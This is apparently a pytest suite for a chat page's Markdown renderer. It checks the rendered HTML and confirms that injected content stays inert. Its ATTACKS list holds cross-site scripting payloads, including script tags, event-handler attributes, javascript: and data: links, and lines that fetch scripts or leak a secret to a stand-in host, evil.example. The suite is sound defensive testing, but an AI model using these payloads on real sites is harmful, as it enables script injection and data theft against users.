"""Markdown of answers in a browser: how it is rendered, and attacks escaped."""

from collections.abc import Iterator
from typing import Any

import pytest

from kit.text_models import saying
from server.page.browsing import visit
from server.serving import serving

SHOW = """async ([...texts]) => {
  const { Markdown } = await import("/page/markdown.js");
  const element = document.createElement("div");
  const markdown = new Markdown(element);
  document.querySelector("#chat .messages").replaceChildren(element);
  for (const text of texts) markdown.show(text);
  return element.innerHTML;
}"""


@pytest.fixture(scope="module")
def page(browser: Any) -> Iterator[Any]:
    with serving({"hello": saying("hello")}) as server, visit(browser, server.url) as opened:
        opened.evaluate("window.run = []")
        yield opened


def shown(page: Any, *texts: str) -> str:
    return page.evaluate(SHOW, texts)


def code(text: str) -> str:
    copy = '<button class="copy quiet" type="button" aria-label="Copy code">Copy</button>'
    return f'<div class="code"><pre tabindex="0"><code>{text}</code></pre>{copy}</div>'


LINK = 'target="_blank" rel="noopener noreferrer"'
TEXTS = {
    "emphasis": ("a **b** *c* ~~d~~ `e<f`",
        "<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e&lt;f</code></p>"),
    "lines": ("a\nb\n\nc", "<p>a<br>b</p><p>c</p>"),
    "headings": ("### a\n# b\n## c", "<h3>a</h3><h3>b</h3><h4>c</h4>"),
    "a heading inside": ("> # a", "<blockquote><h3>a</h3></blockquote>"),
    "code": ("```js\na < b\n\nc\n```", code("a &lt; b\n\nc")),
    "code that is not over": ("```\na", code("a")),
    "lists": ("3. a\n4. b\n   - c", '<ol start="3"><li>a</li><li>b<ul><li>c</li></ul></li></ol>'),
    "a loose list": ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
    "tasks": ("- [ ] a\n- [x] b", "<ul><li>☐ a</li><li>☑ b</li></ul>"),
    "a quotation": ("> a\n\n---", "<blockquote><p>a</p></blockquote><hr>"),
    "a table": ("|a|b|\n|-|-:|\n|1<br>2|3|",
        '<div class="wide" tabindex="0" role="group" aria-label="Table"><table><thead><tr>'
        '<th>a</th><th style="text-align: right;">b</th></tr></thead><tbody><tr><td>1<br>2</td>'
        '<td style="text-align: right;">3</td></tr></tbody></table></div>'),
    "links": ("[a *b*](https://c.example/d) <mailto:e@f.example>",
        f'<p><a href="https://c.example/d" {LINK}>a <em>b</em></a> '
        f'<a href="mailto:e@f.example" {LINK}>mailto:e@f.example</a></p>'),
    "a link whose place comes later": ("[a]\n\n[a]: https://b.example/",
        f'<p><a href="https://b.example/" {LINK}>a</a></p>'),
    "an image is a link": ("![a](https://b.example/c.png)",
        f'<p><a href="https://b.example/c.png" {LINK}>a</a></p>'),
    "entities": ("&lt;a&gt; &amp;amp; &#233; &#x1F600; &nope; &constructor;",
        "<p>&lt;a&gt; &amp;amp; é 😀 &amp;nope; &amp;constructor;</p>"),
    "nothing": ("", ""),
}  # fmt: skip


@pytest.mark.parametrize("case", TEXTS)
def test_markdown_is_rendered(page: Any, case: str):
    text, expected = TEXTS[case]
    assert shown(page, text) == expected
    beginnings = [text[:end] for end in range(len(text))]
    assert shown(page, *beginnings, text) == expected


ATTACKS = [
    "<script>run.push(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "a <script>run.push(1)</script> b",
    "<img src=x onerror=run.push(1)>",
    "a <img src=x onerror=run.push(1)> b",
    "<svg onload=run.push(1)><script>run.push(1)</script></svg>",
    "<iframe srcdoc='<script>parent.run.push(1)</script>'></iframe>",
    "<a href='javascript:run.push(1)'>a</a>",
    "<form action=//evil.example><button>a</button></form>",
    "<style>* { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><img src=x onerror=run.push(1)></mtext></math>",
    "<!--><img src=x onerror=run.push(1)>-->",
    "<![CDATA[<img src=x onerror=run.push(1)>]]>",
    "[a](javascript:run.push(1))",
    "[a](JaVaScRiPt:run.push(1))",
    "[a](<java\tscript:run.push(1)>)",
    "[a](&#106;avascript:run.push(1))",
    "[a](javascript&colon;run.push(1))",
    "[a](\x01javascript:run.push(1))",
    "[a](vbscript:run.push(1))",
    "[a](data:text/html,<script>run.push(1)</script>)",
    "[a](blob:https://evil.example/x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/v1/engine)",
    "[a](#chat)",
    "[a]\n\n[a]: javascript:run.push(1)",
    "<javascript:run.push(1)>",
    '[a](https://b.example/ "x\\" onclick=\\"run.push(1)")',
    '[a](https://b.example/"onmouseover="run.push(1))',
    "![a](javascript:run.push(1))",
    "![a](data:image/png;base64,AAAA)",
    "![a](data:image/svg+xml,<svg onload=run.push(1)>)",
    "![a](https://evil.example/?secret)",
    '![" onerror="run.push(1)](https://evil.example/)',
    "[![a](https://evil.example/x.png)](javascript:run.push(1))",
    '```"><img src=x onerror=run.push(1)>\na\n```',
    "`<img src=x onerror=run.push(1)>`",
    "|<img src=x onerror=run.push(1)>|\n|-|\n|<script>run.push(1)</script>|",
    "# <img src=x onerror=run.push(1)>",
    "&lt;img src=x onerror=run.push(1)&gt;",
    "> " * 3000 + "<img src=x onerror=run.push(1)>",
]
MADE = "a blockquote br code del em h3 h4 h5 h6 hr li ol p pre strong table tbody td th thead tr ul"
LEFT = """(allowed) => {
  const all = [...document.querySelector("#chat .messages > div").querySelectorAll("*")];
  const shown = all.filter((element) => !element.matches("div.code > button.copy"));
  for (const element of shown) {
    element.click();
    for (const kind of ["mouseover", "focus", "error", "load"]) {
      element.dispatchEvent(new Event(kind, { bubbles: true }));
    }
  }
  const attributes = ["href", "target", "rel", "class", "tabindex", "role", "aria-label", "style"];
  return [
    ...window.run,
    ...shown.filter(({ localName }) => !allowed.includes(localName)).map((it) => it.outerHTML),
    ...shown.flatMap((it) => it.getAttributeNames()).filter((name) => !attributes.includes(name)),
    ...shown.filter((it) => it.href && !/^(https?|mailto):/.test(it.href)).map((it) => it.href),
  ];
}"""


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_attacks_in_an_answer_stay_text(page: Any, number: int):
    text = ATTACKS[number]
    page.evaluate("document.addEventListener('click', (event) => event.preventDefault())")
    address = page.url
    shown(page, text)
    assert page.evaluate(LEFT, [*MADE.split(), "div"]) == []
    written = page.locator("#chat .messages > div").text_content()
    assert written.strip()
    assert page.url == address


@pytest.mark.parametrize("mark", ["> ", "1. ", "_a **b "])
@pytest.mark.parametrize("times", [60, 150, 5000])
def test_too_deep_nesting_is_shown_verbatim(page: Any, mark: str, times: int):
    closing = "** c_" if mark.startswith("_") else ""
    text = f"b\n\n{mark * times}x{closing * times}".strip()
    shown(page, text)
    assert "x" in page.locator("#chat .messages > div").text_content()
    deepest = page.evaluate(
        """() => {
          let [deepest, levels] = [0, (element) => {
            let level = 0;
            for (let it = element; it; it = it.parentElement) level += 1;
            return level;
          }];
          for (const element of document.querySelectorAll("#chat .messages *")) {
            deepest = Math.max(deepest, levels(element));
          }
          return deepest;
        }"""
    )
    assert deepest < 250


def test_rendered_blocks_stay_while_the_text_grows(page: Any):
    same = page.evaluate(
        """async () => {
          const { Markdown } = await import("/page/markdown.js");
          const element = document.createElement("div");
          const markdown = new Markdown(element);
          markdown.show("# a\\n\\nb\\n\\nc");
          const [heading, first, last] = element.children;
          markdown.show("# a\\n\\nb\\n\\nc d\\n\\n## e");
          const [...now] = element.children;
          return [now[0] === heading, now[1] === first, now[2] === last, now.length];
        }"""
    )
    assert same == [True, True, False, 4]
